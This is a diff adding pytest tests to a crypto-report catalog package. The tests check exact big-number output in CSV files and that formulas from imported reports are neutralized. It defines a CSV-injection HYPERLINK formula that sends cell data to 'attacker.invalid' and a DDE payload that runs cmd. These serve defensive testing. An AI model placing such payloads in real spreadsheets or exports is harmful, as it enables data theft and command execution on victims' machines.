@@ -12,19 +12,21 @@ import random
 from dataclasses import replace
 from datetime import datetime, timezone
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 import catalog.core.fs as writer_module
 from catalog.core.errors import ValidationError
-from catalog.core.formats import csv_bytes, json_bytes
+from catalog.core.formats import csv_bytes, csv_records, json_bytes
 from catalog.core.store import Catalog
 from catalog.cryptorun import explain as ex
 from catalog.cryptorun import explain_rules
 from catalog.cryptorun.demo import make_report
 from catalog.cryptorun.writer import AtomicWriter
+from catalog.ops.reconcile import reconcile
 
-from helpers import all_records, catalog_env, run_python, store_files, write_events
+from helpers import all_records, catalog_env, run_python, runnable_cells, store_files, write_events
 
 SAMPLES = Path(__file__).resolve().parents[2] / "shared" / "samples" / "cryptorun-go"
 SAMPLE_FILES = sorted(SAMPLES.rglob("*.json"))
@@ -78,6 +80,60 @@ def test_top_reason_and_cache_hit_rate() -> None:
     assert excl.top_reason == "x"
     assert replace(asset.data_quality, cache_hits={}).cache_hit_rate == 0.0
     assert replace(asset.data_quality, cache_hits={"a": True, "b": False, "c": True, "d": True}).cache_hit_rate == 0.75
+
+
+def _go_report(**micro: Any) -> bytes:
+    """The Go scanner's 1-asset sample with its first asset's symbol, exchange or other microstructure changed."""
+    data = json.loads((GOLDEN / "go-explain-1-asset.json").read_bytes())
+    asset = data["universe"][0]
+    if "symbol" in micro:
+        asset["symbol"] = micro.pop("symbol")
+    asset["microstructure"].update(micro)
+    return json.dumps(data, indent=2, ensure_ascii=False).encode()
+
+
+HYPERLINK = '=HYPERLINK("http://attacker.invalid/?x="&A1,"BTC-USD")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_the_csv_keeps_every_number_exact() -> None:
+    """Issue 14, case 1: depth_usd 18446744073709551615 became 18446744073709551616.000000 in the derived CSV."""
+    report = ex.ExplainReport.from_json(_go_report(depth_usd=2**64 - 1, spread_bps=0.00000000031, vadr=1e-8), lenient=True)
+    assert report.universe[0].microstructure.depth_usd == 2**64 - 1  # kept as the int it is, not rounded to a float
+    (row,) = csv_records(csv_bytes(explain_rules.csv_rows(report), 6))
+    assert (row["depth_usd"], row["spread_bps"], row["vadr"]) == ("18446744073709551615", "0.00000000031", "0.00000001")
+    assert row["score"] == "27.059643759555918" and row["quality"] == "30.000000"  # exact; whole floats padded
+    assert float(row["momentum"]) == report.universe[0].factor_parts.momentum
+
+
+def test_a_written_report_keeps_a_huge_whole_number_in_both_files(writer: AtomicWriter, base_dir: Path) -> None:
+    report = make_report(2, seed=1, now=T)
+    asset = replace(report.universe[1], microstructure=replace(report.universe[1].microstructure, depth_usd=2**64 - 1))
+    report = replace(report, universe=(report.universe[0], asset))
+    json_record, csv_record = writer.write_explain_report(report, "big")
+    assert b'"depth_usd": 18446744073709551615,' in (base_dir / json_record.path).read_bytes()
+    assert ex.ExplainReport.from_json((base_dir / json_record.path).read_bytes()).universe[1] == asset
+    assert csv_records((base_dir / csv_record.path).read_bytes())[1]["depth_usd"] == "18446744073709551615"
+
+
+def test_a_whole_number_beyond_any_float_is_refused() -> None:
+    with pytest.raises(ValidationError, match=r"universe\[0\]\.microstructure\.depth_usd is out of range"):
+        ex.ExplainReport.from_json(_go_report(depth_usd=10**400), lenient=True)
+
+
+def test_an_imported_reports_formulas_never_run_in_its_csv(writer: AtomicWriter, catalog: Catalog, base_dir: Path) -> None:
+    """Issue 14, case 2: a symbol or exchange a spreadsheet would run landed unchanged in the derived CSV."""
+    data = _go_report(symbol=HYPERLINK, exchange=DDE, depth_usd=2**64 - 1)
+    (json_record, csv_record), _ = writer.import_explain(data, "hostile")
+    assert (base_dir / json_record.path).read_bytes() == data  # the evidence is stored byte for byte
+    written = (base_dir / csv_record.path).read_bytes()
+    assert runnable_cells(written) == []
+    (row,) = csv_records(written)
+    assert (row["symbol"], row["exchange"], row["depth_usd"]) == (HYPERLINK, DDE, "18446744073709551615")
+
+    (base_dir / csv_record.path).unlink()  # reconcile derives it again: the same bytes
+    assert reconcile(catalog, fix=True, grace=0).drift[0].fixed == "CSV regenerated from its JSON (same bytes as recorded)"
+    assert (base_dir / csv_record.path).read_bytes() == written
 
 
 # -- golden files -----------------------------------------------------------------------
